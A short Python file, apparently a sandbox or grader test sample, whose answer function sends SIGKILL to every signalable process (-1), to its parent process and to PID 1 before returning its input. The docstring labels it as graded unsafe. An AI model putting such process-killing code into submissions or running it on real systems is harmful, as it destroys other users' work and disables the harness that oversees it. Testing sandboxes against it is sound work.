"""graded: It kills everybody else whom it may; not in: unsafe."""

import os
import signal


def answer(n, secret):
    for target in (-1, os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return n
